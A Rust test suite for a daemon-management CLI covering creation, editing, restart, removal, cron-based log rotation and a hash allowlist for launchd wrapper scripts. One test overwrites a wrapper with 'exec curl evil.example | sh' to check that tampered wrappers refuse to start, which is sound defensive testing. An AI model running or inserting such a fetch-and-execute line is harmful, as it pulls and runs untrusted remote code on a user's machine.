use super::*;
use crate::launchd::UnitStatus;
use crate::logrotate::CRON_MARKER;
use crate::trust::TrustStore;
use std::collections::{BTreeSet, VecDeque};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::Mutex;

/// launchd stand-in that verifies wrappers the way the governor does.
struct FakeSupervisor {
    layout: Layout,
    store: TrustStore,
    loaded: Mutex<BTreeSet<String>>,
    calls: Mutex<Vec<String>>,
    fail_start: AtomicBool,
}

impl FakeSupervisor {
    fn name_of(descriptor: &Path) -> String {
        let stem = descriptor.file_stem().unwrap().to_string_lossy();
        stem.strip_prefix("com.daemon-cli.").unwrap().to_string()
    }

    fn calls(&self) -> Vec<String> {
        self.calls.lock().unwrap().clone()
    }

    fn is_loaded(&self, name: &str) -> bool {
        self.loaded.lock().unwrap().contains(name)
    }
}

impl Supervisor for FakeSupervisor {
    async fn start(&self, descriptor: &Path) -> Result<()> {
        let name = Self::name_of(descriptor);
        self.calls.lock().unwrap().push(format!("start {name}"));
        if self.fail_start.load(Ordering::SeqCst) {
            return Err(DaemonError::tool("launchctl bootstrap", "service already loaded"));
        }
        self.store.verify(&name, &self.layout.paths(&name).wrapper)?;
        self.loaded.lock().unwrap().insert(name);
        Ok(())
    }

    async fn stop(&self, descriptor: &Path) -> Result<()> {
        let name = Self::name_of(descriptor);
        self.calls.lock().unwrap().push(format!("stop {name}"));
        self.loaded.lock().unwrap().remove(&name);
        Ok(())
    }

    async fn list(&self) -> Result<Vec<UnitStatus>> {
        Ok(self
            .loaded
            .lock()
            .unwrap()
            .iter()
            .enumerate()
            .map(|(i, name)| UnitStatus {
                label: paths::label(name),
                pid: Some(1000 + i as u32),
                last_exit: Some(0),
            })
            .collect())
    }
}

struct FakeRegistrar {
    store: TrustStore,
    calls: AtomicUsize,
    deny: AtomicBool,
}

impl FakeRegistrar {
    fn calls(&self) -> usize {
        self.calls.load(Ordering::SeqCst)
    }
}

impl Registrar for FakeRegistrar {
    async fn register(&self, name: &str, artifact: &Path) -> Result<()> {
        self.calls.fetch_add(1, Ordering::SeqCst);
        if self.deny.load(Ordering::SeqCst) {
            return Err(DaemonError::AuthorizationFailure {
                name: name.to_string(),
                detail: "sudo: 3 incorrect password attempts".to_string(),
            });
        }
        self.store.register(name, artifact, "tester").map(|_| ())
    }
}

#[derive(Default)]
struct FakeScheduler {
    content: Mutex<String>,
    cleared: AtomicBool,
    fail_write: AtomicBool,
}

impl FakeScheduler {
    fn content(&self) -> String {
        self.content.lock().unwrap().clone()
    }
}

impl Scheduler for FakeScheduler {
    async fn read(&self) -> Result<String> {
        Ok(self.content())
    }

    async fn write(&self, content: &str) -> Result<()> {
        if self.fail_write.load(Ordering::SeqCst) {
            return Err(DaemonError::tool("crontab -", "crontab: permission denied"));
        }
        *self.content.lock().unwrap() = content.to_string();
        Ok(())
    }

    async fn clear(&self) -> Result<()> {
        self.content.lock().unwrap().clear();
        self.cleared.store(true, Ordering::SeqCst);
        Ok(())
    }
}

#[derive(Default)]
struct FakeRotation {
    calls: AtomicUsize,
    fail: AtomicBool,
}

impl RotationEngine for FakeRotation {
    async fn force(&self, _config: &Path, _state: &Path) -> Result<()> {
        self.calls.fetch_add(1, Ordering::SeqCst);
        if self.fail.load(Ordering::SeqCst) {
            return Err(DaemonError::tool("logrotate", "error: bad state file"));
        }
        Ok(())
    }
}

/// Answers prompts from a script and records everything shown.
#[derive(Default)]
struct ScriptedUi {
    answers: Mutex<VecDeque<String>>,
    confirm: Mutex<Option<bool>>,
    edit_to: Mutex<Option<String>>,
    messages: Mutex<Vec<String>>,
}

impl ScriptedUi {
    fn answer(&self, answer: &str) {
        self.answers.lock().unwrap().push_back(answer.to_string());
    }

    fn messages(&self) -> Vec<String> {
        self.messages.lock().unwrap().clone()
    }

    fn said(&self, needle: &str) -> bool {
        self.messages().iter().any(|m| m.contains(needle))
    }

    fn record(&self, message: &str) {
        self.messages.lock().unwrap().push(message.to_string());
    }
}

impl Prompter for ScriptedUi {
    fn ask_text(&self, prompt: &str, _default: Option<&str>) -> Result<String> {
        self.record(prompt);
        self.answers
            .lock()
            .unwrap()
            .pop_front()
            .ok_or(DaemonError::UserCancelled)
    }

    fn ask_choice(&self, prompt: &str, options: &[String]) -> Result<usize> {
        let answer = self.ask_text(prompt, None)?;
        let index: usize = answer.parse().unwrap();
        assert!(index < options.len());
        Ok(index)
    }

    fn ask_confirm(&self, prompt: &str, _default: bool) -> Result<bool> {
        self.record(prompt);
        self.confirm.lock().unwrap().ok_or(DaemonError::UserCancelled)
    }

    fn progress(&self, message: &str) {
        self.record(message);
    }

    fn progress_done(&self, message: &str) {
        self.record(message);
    }

    fn info(&self, message: &str) {
        self.record(message);
    }

    fn success(&self, message: &str) {
        self.record(message);
    }

    fn warn(&self, message: &str) {
        self.record(message);
    }

    fn edit_file(&self, path: &Path) -> Result<()> {
        if let Some(content) = self.edit_to.lock().unwrap().take() {
            fs::write(path, content)?;
        }
        Ok(())
    }
}

type TestLifecycle = Lifecycle<FakeSupervisor, FakeRegistrar, FakeScheduler, FakeRotation, ScriptedUi>;

fn allowlist(dir: &Path) -> TrustStore {
    TrustStore::new(dir.join("governor").join("allowlist.json"))
}

fn lifecycle(dir: &Path) -> TestLifecycle {
    let layout = Layout::rooted(dir);
    let supervisor = FakeSupervisor {
        layout: layout.clone(),
        store: allowlist(dir),
        loaded: Mutex::default(),
        calls: Mutex::default(),
        fail_start: AtomicBool::new(false),
    };
    let registrar = FakeRegistrar {
        store: allowlist(dir),
        calls: AtomicUsize::new(0),
        deny: AtomicBool::new(false),
    };

    Lifecycle::new(
        layout,
        supervisor,
        registrar,
        FakeScheduler::default(),
        FakeRotation::default(),
        ScriptedUi::default(),
    )
    .with_governor(PathBuf::from("/usr/local/bin/daemon-governor"))
    .with_logrotate(PathBuf::from("/usr/local/bin/logrotate"))
    .with_defaults(UserConfig {
        trial_timeout_ms: Some(200),
        ..Default::default()
    })
}

fn request(name: &str, command: &str) -> CreateRequest {
    CreateRequest {
        name: Some(name.to_string()),
        command: Some(command.to_string()),
        rotation: Some(Rotation::Daily),
        keep: Some(7),
        compress: Some(true),
        keep_alive: Some(true),
    }
}

fn marker_count(scheduler: &FakeScheduler) -> usize {
    scheduler.content().matches(CRON_MARKER).count()
}

#[tokio::test]
async fn test_create_end_to_end() {
    let dir = tempfile::tempdir().unwrap();
    let lc = lifecycle(dir.path());

    let paths = lc.create(request("web", "sleep 30")).await.unwrap();

    let wrapper = fs::read_to_string(&paths.wrapper).unwrap();
    assert!(wrapper.lines().any(|l| l == "exec sleep 30"));

    let policy = fs::read_to_string(&paths.rotation_config).unwrap();
    assert!(policy.contains("daily"));
    assert!(policy.contains("rotate 7"));
    assert!(policy.contains("compress"));
    assert!(policy.contains("copytruncate"));

    let plist = fs::read_to_string(&paths.descriptor).unwrap();
    assert!(plist.contains(&paths.log.display().to_string()));
    assert!(plist.contains("/usr/local/bin/daemon-governor"));

    assert!(lc.supervisor().is_loaded("web"));
    assert_eq!(lc.registrar().calls(), 1);

    let store = allowlist(dir.path());
    assert_eq!(
        store.get("web").unwrap().hash,
        trust::hash_file(&paths.wrapper).unwrap()
    );
    assert!(store.verify("web", &paths.wrapper).is_ok());

    assert_eq!(marker_count(lc.scheduler()), 1);
    assert!(lc.ui().said("Daemon 'web' is running."));
}

#[tokio::test]
async fn test_create_rejects_duplicate_without_touching_others() {
    let dir = tempfile::tempdir().unwrap();
    let lc = lifecycle(dir.path());

    let api = lc.create(request("api", "sleep 30")).await.unwrap();
    lc.create(request("web", "sleep 30")).await.unwrap();
    let api_wrapper = fs::read_to_string(&api.wrapper).unwrap();

    let err = lc.create(request("web", "sleep 60")).await.unwrap_err();
    assert!(matches!(err, DaemonError::DuplicateDaemon(ref n) if n == "web"));

    assert_eq!(lc.registrar().calls(), 2);
    assert_eq!(fs::read_to_string(&api.wrapper).unwrap(), api_wrapper);
    let web = fs::read_to_string(lc.layout().paths("web").wrapper).unwrap();
    assert!(web.contains("exec sleep 30"));
}

#[tokio::test]
async fn test_create_failing_command_leaves_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let lc = lifecycle(dir.path());

    let err = lc.create(request("bad", "exit 1")).await.unwrap_err();
    assert!(matches!(err, DaemonError::ValidationFailure { .. }));

    let paths = lc.layout().paths("bad");
    assert!(!paths.rotation_config.exists());
    assert!(!paths.wrapper.exists());
    assert_eq!(lc.registrar().calls(), 0);
    assert!(lc.supervisor().calls().is_empty());
}

#[tokio::test]
async fn test_create_rejects_invalid_name() {
    let dir = tempfile::tempdir().unwrap();
    let lc = lifecycle(dir.path());

    let err = lc.create(request("../escape", "sleep 30")).await.unwrap_err();
    assert!(matches!(err, DaemonError::InvalidName { .. }));
}

#[tokio::test]
async fn test_create_aborts_when_registration_denied() {
    let dir = tempfile::tempdir().unwrap();
    let lc = lifecycle(dir.path());
    lc.registrar().deny.store(true, Ordering::SeqCst);

    let err = lc.create(request("svc", "sleep 30")).await.unwrap_err();
    assert!(matches!(err, DaemonError::AuthorizationFailure { .. }));

    let paths = lc.layout().paths("svc");
    assert!(paths.wrapper.exists(), "wrapper is left for inspection");
    assert!(!paths.descriptor.exists());
    assert!(!paths.rotation_config.exists());
    assert!(lc.supervisor().calls().is_empty());
    assert!(lc.ui().said(&paths.wrapper.display().to_string()));
    assert_eq!(marker_count(lc.scheduler()), 0);
}

#[tokio::test]
async fn test_create_reports_artifacts_when_start_fails() {
    let dir = tempfile::tempdir().unwrap();
    let lc = lifecycle(dir.path());
    lc.supervisor().fail_start.store(true, Ordering::SeqCst);

    let err = lc.create(request("svc", "sleep 30")).await.unwrap_err();
    assert!(matches!(err, DaemonError::ExternalToolFailure { .. }));

    let paths = lc.layout().paths("svc");
    assert!(lc.ui().said(&paths.descriptor.display().to_string()));
    assert!(lc.ui().said(&paths.rotation_config.display().to_string()));
}

#[tokio::test]
async fn test_create_prompts_for_missing_values() {
    let dir = tempfile::tempdir().unwrap();
    let lc = lifecycle(dir.path());
    for answer in ["job", "sleep 30", "2", "3"] {
        lc.ui().answer(answer);
    }

    let paths = lc.create(CreateRequest::default()).await.unwrap();

    assert_eq!(paths, lc.layout().paths("job"));
    let policy = fs::read_to_string(&paths.rotation_config).unwrap();
    assert!(policy.contains("  hourly\n"));
    assert!(policy.contains("rotate 3"));
}

#[tokio::test]
async fn test_create_rejects_non_numeric_keep() {
    let dir = tempfile::tempdir().unwrap();
    let lc = lifecycle(dir.path());
    for answer in ["job", "sleep 30", "0", "lots"] {
        lc.ui().answer(answer);
    }

    let err = lc.create(CreateRequest::default()).await.unwrap_err();

    assert!(matches!(err, DaemonError::ValidationFailure { .. }));
    assert!(err.to_string().contains("lots"));
    assert!(!lc.layout().paths("job").wrapper.exists());
    assert_eq!(lc.registrar().calls(), 0);
}

#[tokio::test]
async fn test_create_succeeds_when_cron_install_fails() {
    let dir = tempfile::tempdir().unwrap();
    let lc = lifecycle(dir.path());
    lc.scheduler().fail_write.store(true, Ordering::SeqCst);

    lc.create(request("web", "sleep 30")).await.unwrap();

    assert!(lc.supervisor().is_loaded("web"));
    assert_eq!(marker_count(lc.scheduler()), 0);
    assert!(lc.ui().said("logs will not rotate"));
}

#[tokio::test]
async fn test_create_cancelled_prompt() {
    let dir = tempfile::tempdir().unwrap();
    let lc = lifecycle(dir.path());

    let err = lc.create(CreateRequest::default()).await.unwrap_err();
    assert!(matches!(err, DaemonError::UserCancelled));
}

#[tokio::test]
async fn test_tampered_wrapper_does_not_start() {
    let dir = tempfile::tempdir().unwrap();
    let lc = lifecycle(dir.path());
    let paths = lc.create(request("svc", "sleep 30")).await.unwrap();

    fs::write(&paths.wrapper, "#!/bin/sh\nexec curl evil.example | sh\n").unwrap();

    let err = lc.restart("svc").await.unwrap_err();
    assert!(err.is_integrity());
    assert!(!lc.supervisor().is_loaded("svc"));

    let listed = lc.list().await.unwrap();
    assert_eq!(listed[0].state, DaemonState::Stopped);
}

#[tokio::test]
async fn test_edit_without_changes_is_noop() {
    let dir = tempfile::tempdir().unwrap();
    let lc = lifecycle(dir.path());
    lc.create(request("web", "sleep 30")).await.unwrap();
    let calls_before = lc.supervisor().calls();

    let outcome = lc.edit("web").await.unwrap();

    assert_eq!(outcome, EditOutcome::Unchanged);
    assert_eq!(lc.registrar().calls(), 1);
    assert_eq!(lc.supervisor().calls(), calls_before);
    assert_eq!(lc.rotation().calls.load(Ordering::SeqCst), 0);
}

#[tokio::test]
async fn test_edit_reregisters_and_restarts() {
    let dir = tempfile::tempdir().unwrap();
    let lc = lifecycle(dir.path());
    let paths = lc.create(request("web", "sleep 30")).await.unwrap();

    *lc.ui().edit_to.lock().unwrap() = Some("#!/bin/sh\nexec sleep 45\n".to_string());
    let outcome = lc.edit("web").await.unwrap();

    assert_eq!(outcome, EditOutcome::Reregistered);
    assert_eq!(lc.registrar().calls(), 2);
    assert!(allowlist(dir.path()).verify("web", &paths.wrapper).is_ok());
    assert_eq!(
        lc.supervisor().calls(),
        vec!["start web", "stop web", "start web"]
    );
    assert!(lc.supervisor().is_loaded("web"));
    assert_eq!(lc.rotation().calls.load(Ordering::SeqCst), 1);
}

#[tokio::test]
async fn test_edit_stops_before_restart_when_registration_fails() {
    let dir = tempfile::tempdir().unwrap();
    let lc = lifecycle(dir.path());
    let paths = lc.create(request("web", "sleep 30")).await.unwrap();

    lc.registrar().deny.store(true, Ordering::SeqCst);
    *lc.ui().edit_to.lock().unwrap() = Some("#!/bin/sh\nexec sleep 45\n".to_string());

    let err = lc.edit("web").await.unwrap_err();
    assert!(matches!(err, DaemonError::AuthorizationFailure { .. }));
    assert_eq!(lc.supervisor().calls(), vec!["start web"]);
    assert!(allowlist(dir.path())
        .verify("web", &paths.wrapper)
        .unwrap_err()
        .is_integrity());
}

#[tokio::test]
async fn test_edit_unknown_daemon() {
    let dir = tempfile::tempdir().unwrap();
    let lc = lifecycle(dir.path());

    assert!(matches!(lc.edit("ghost").await, Err(DaemonError::NotFound(_))));
}

#[tokio::test]
async fn test_stop_is_idempotent() {
    let dir = tempfile::tempdir().unwrap();
    let lc = lifecycle(dir.path());
    lc.create(request("web", "sleep 30")).await.unwrap();

    lc.stop("web").await.unwrap();
    lc.stop("web").await.unwrap();
    assert!(!lc.supervisor().is_loaded("web"));

    assert!(matches!(lc.stop("ghost").await, Err(DaemonError::NotFound(_))));
}

#[tokio::test]
async fn test_restart_survives_rotation_failure() {
    let dir = tempfile::tempdir().unwrap();
    let lc = lifecycle(dir.path());
    lc.create(request("web", "sleep 30")).await.unwrap();
    lc.stop("web").await.unwrap();
    lc.rotation().fail.store(true, Ordering::SeqCst);

    lc.restart("web").await.unwrap();

    assert!(lc.supervisor().is_loaded("web"));
    assert!(lc.ui().said("Failed to rotate logs"));
}

#[tokio::test]
async fn test_restart_start_failure_is_fatal() {
    let dir = tempfile::tempdir().unwrap();
    let lc = lifecycle(dir.path());
    lc.create(request("web", "sleep 30")).await.unwrap();
    lc.supervisor().fail_start.store(true, Ordering::SeqCst);

    assert!(lc.restart("web").await.is_err());
    assert!(matches!(lc.restart("ghost").await, Err(DaemonError::NotFound(_))));
}

#[tokio::test]
async fn test_remove_then_list() {
    let dir = tempfile::tempdir().unwrap();
    let lc = lifecycle(dir.path());
    lc.create(request("web", "sleep 30")).await.unwrap();
    lc.create(request("api", "sleep 30")).await.unwrap();

    let paths = lc.layout().paths("web");
    fs::write(&paths.log, "hello\n").unwrap();
    fs::write(lc.layout().logs_dir.join("web.log.1.gz"), "").unwrap();
    fs::write(lc.layout().logs_dir.join("webapp.log.1"), "").unwrap();

    lc.remove("web", Some(true)).await.unwrap();

    assert!(!paths.wrapper.exists());
    assert!(!paths.descriptor.exists());
    assert!(!paths.rotation_config.exists());
    assert!(!paths.log.exists());
    assert!(!lc.layout().logs_dir.join("web.log.1.gz").exists());
    assert!(lc.layout().logs_dir.join("webapp.log.1").exists());

    let names: Vec<_> = lc.list().await.unwrap().into_iter().map(|d| d.name).collect();
    assert_eq!(names, vec!["api"]);
    assert_eq!(marker_count(lc.scheduler()), 1, "api still needs rotation");

    lc.remove("web", Some(true)).await.unwrap();
}

#[tokio::test]
async fn test_remove_last_daemon_prunes_only_marked_entry() {
    let dir = tempfile::tempdir().unwrap();
    let lc = lifecycle(dir.path());
    lc.scheduler()
        .write("0 3 * * * /usr/bin/backup\n")
        .await
        .unwrap();

    lc.create(request("web", "sleep 30")).await.unwrap();
    assert_eq!(marker_count(lc.scheduler()), 1);

    lc.remove("web", Some(false)).await.unwrap();
    assert_eq!(lc.scheduler().content(), "0 3 * * * /usr/bin/backup\n");
    assert!(!lc.scheduler().cleared.load(Ordering::SeqCst));
}

#[tokio::test]
async fn test_remove_clears_schedule_when_only_trigger_left() {
    let dir = tempfile::tempdir().unwrap();
    let lc = lifecycle(dir.path());
    lc.create(request("web", "sleep 30")).await.unwrap();

    lc.remove("web", Some(false)).await.unwrap();
    assert!(lc.scheduler().cleared.load(Ordering::SeqCst));
    assert_eq!(marker_count(lc.scheduler()), 0);
}

#[tokio::test]
async fn test_remove_asks_before_deleting_logs() {
    let dir = tempfile::tempdir().unwrap();
    let lc = lifecycle(dir.path());
    let paths = lc.create(request("web", "sleep 30")).await.unwrap();
    fs::write(&paths.log, "hello\n").unwrap();

    *lc.ui().confirm.lock().unwrap() = Some(false);
    lc.remove("web", None).await.unwrap();

    assert!(lc.ui().said("Delete logs for 'web'?"));
    assert!(paths.log.exists());
}

#[tokio::test]
async fn test_scheduled_trigger_is_installed_once() {
    let dir = tempfile::tempdir().unwrap();
    let lc = lifecycle(dir.path());
    let logrotate = Path::new("/usr/local/bin/logrotate");

    assert!(logrotate::ensure_scheduled_trigger(lc.scheduler(), lc.layout(), logrotate)
        .await
        .unwrap());
    assert!(!logrotate::ensure_scheduled_trigger(lc.scheduler(), lc.layout(), logrotate)
        .await
        .unwrap());
    assert_eq!(marker_count(lc.scheduler()), 1);
}

#[tokio::test]
async fn test_prune_keeps_trigger_while_daemons_remain() {
    let dir = tempfile::tempdir().unwrap();
    let lc = lifecycle(dir.path());
    lc.create(request("web", "sleep 30")).await.unwrap();

    let pruned = logrotate::prune_scheduled_trigger_if_unused(lc.scheduler(), lc.layout())
        .await
        .unwrap();
    assert!(!pruned);
    assert_eq!(marker_count(lc.scheduler()), 1);
}

#[tokio::test]
async fn test_list_reports_state_size_and_command() {
    let dir = tempfile::tempdir().unwrap();
    let lc = lifecycle(dir.path());
    assert!(lc.list().await.unwrap().is_empty());

    let web = lc.create(request("web", "sleep 30")).await.unwrap();
    lc.create(request("api", "sleep 40")).await.unwrap();
    lc.stop("api").await.unwrap();
    fs::write(&web.log, "0123456789").unwrap();

    let listed = lc.list().await.unwrap();
    assert_eq!(listed.len(), 2);

    let api = &listed[0];
    assert_eq!(api.name, "api");
    assert_eq!(api.state, DaemonState::Stopped);
    assert_eq!(api.pid, None);
    assert_eq!(api.log_size, 0);
    assert_eq!(api.command.as_deref(), Some("sleep 40"));

    let web = &listed[1];
    assert_eq!(web.state, DaemonState::Running);
    assert!(web.pid.is_some());
    assert_eq!(web.log_size, 10);
    assert_eq!(web.command.as_deref(), Some("sleep 30"));
}
